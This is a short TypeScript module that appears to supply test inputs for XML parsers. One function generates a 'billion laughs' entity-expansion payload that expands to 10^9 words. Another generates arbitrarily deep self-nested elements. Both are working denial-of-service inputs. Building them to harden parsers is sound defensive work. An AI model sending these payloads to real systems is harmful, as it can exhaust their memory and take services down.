/** XML made to harm. */

/** Ten entities, each ten of the one before: `&l9;` is 10^9 words. */
export function laughs(root: string, body: string): string {
  const entities = Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  )
  return `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY l0 "barn">${entities.join('')}]><${root}>${body}</${root}>`
}

/** An element within itself. */
export const deep = (name: string, depth: number): string =>
  `${`<${name}>`.repeat(depth)}x${`</${name}>`.repeat(depth)}`
